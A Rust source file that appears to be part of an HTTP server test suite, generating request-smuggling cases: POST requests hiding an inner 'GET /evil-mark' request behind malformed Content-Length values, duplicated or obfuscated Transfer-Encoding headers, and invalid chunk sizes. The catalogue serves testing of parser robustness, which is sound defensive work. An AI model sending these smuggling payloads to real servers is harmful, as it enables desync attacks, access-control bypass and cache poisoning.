//! Lengths, codings and chunks, with a request within the body.
use super::{Trick, trick};

/// A request within the body of a request.
const WITHIN: &str = "GET /evil-mark HTTP/1.1\r\nHost: localhost\r\n\r\n";

/// A post with these lines about its body, which has a request within.
fn post(lines: &str, before: &str) -> Trick {
    let what = format!("a body of {lines:?} and {before:?}");
    let kind = "Content-Type: application/x-www-form-urlencoded";
    let head = format!("POST /sign-in HTTP/1.1\r\nHost: localhost\r\n{kind}\r\n{lines}\r\n\r\n");
    trick(what, format!("{head}{before}{WITHIN}"))
}

/// Lengths that are none: whatever the server makes of them, the request within is part of the body.
pub fn lengths() -> Vec<Trick> {
    let length = WITHIN.len();
    let odd = [
        "-1",
        "+5",
        "0x2d",
        "5, 5",
        "5,6",
        "5 5",
        "5;",
        "5.0",
        "1e1",
        "",
        " ",
        "٣",
        "00000000000000000000000000005x",
        "evil-mark",
        "18446744073709551616",
        "99999999999999999999",
        "-0",
        "\u{b}45",
        "45\u{0}",
    ];
    let mut all: Vec<Trick> =
        odd.iter().map(|it| post(&format!("Content-Length: {it}"), "")).collect();
    for lines in [
        format!("Content-Length: {length}\r\nContent-Length: 0"),
        format!("Content-Length: 0\r\nContent-Length: {length}"),
        format!("Content-Length: {length}\r\nContent-Length: {length}"),
        format!("Content-Length: {length}, 0"),
        format!("Content-Length : {length}"),
        format!("Content-Length\r\n: {length}"),
        format!("Content-Length:\r\n {length}"),
        format!("X: y\nContent-Length: {length}"),
        format!(" Content-Length: {length}"),
    ] {
        all.push(post(&lines, ""));
    }
    all
}

/// A length and a coding at once, and codings that only look like one.
pub fn codings() -> Vec<Trick> {
    let length = WITHIN.len() + 5;
    let codings = [
        "Transfer-Encoding: chunked",
        "transfer-encoding: CHUNKED",
        "Transfer-Encoding:chunked",
        "Transfer-Encoding: chunked ",
        "Transfer-Encoding : chunked",
        "Transfer-Encoding:\tchunked",
        "Transfer-Encoding: \u{b}chunked",
        "Transfer-Encoding: chunked\u{c}",
        "Transfer-Encoding: xchunked",
        "Transfer-Encoding: chunked-evil-mark",
        "Transfer-Encoding: chunked;q=1",
        "Transfer-Encoding: \"chunked\"",
        "Transfer-Encoding: chunked, identity",
        "Transfer-Encoding: identity, chunked",
        "Transfer-Encoding: identity",
        "Transfer-Encoding: gzip, chunked",
        "Transfer-Encoding: chunked, chunked",
        "Transfer-Encoding: ,chunked",
        "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
        "Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
        "Transfer-Encoding: x\r\nTransfer-Encoding: chunked",
        "Transfer-Encoding:\r\n chunked",
        "Transfer-Encoding\r\n: chunked",
        "X: y\nTransfer-Encoding: chunked",
        "X: y\rTransfer-Encoding: chunked",
        "Transfer_Encoding: chunked",
        "Transfer-Encoding: ",
        " Transfer-Encoding: chunked",
        "TE: chunked",
        "Content-Encoding: chunked",
        "Transfer-Encoding: ch\u{fc}nked",
    ];
    let mut all = Vec::new();
    for coding in codings {
        for lines in [
            format!("Content-Length: {length}\r\n{coding}"),
            format!("{coding}\r\nContent-Length: {length}"),
        ] {
            all.push(post(&lines, "0\r\n\r\n"));
        }
    }
    for coding in
        ["Transfer-Encoding: xchunked", "Transfer-Encoding: identity", "Transfer-Encoding: gzip"]
    {
        all.push(post(coding, ""));
    }
    all
}

/// Sizes of chunks that are none: what follows is not another request.
pub fn chunks() -> Vec<Trick> {
    let sizes = [
        "0x5",
        "-5",
        "+5",
        "5 5",
        "g",
        "",
        " ",
        "FFFFFFFFFFFFFFFFF",
        "ffffffffffffffff",
        "100000000",
        "5\u{0}",
        "٣",
        "5\n",
        "5;evil-mark=\n",
        "5;\u{0}",
    ];
    let chunked = "Transfer-Encoding: chunked";
    let mut all: Vec<Trick> =
        sizes.iter().map(|it| post(chunked, &format!("{it}\r\nabcde\r\n"))).collect();
    for before in
        ["5\r\nabcdefgh\r\n", "5\r\nabcdeX", "5\r\nabcde\n", "5\nabcde\r\n", "\r\n", "5", "0\n\n1"]
    {
        all.push(post(chunked, before));
    }
    all
}
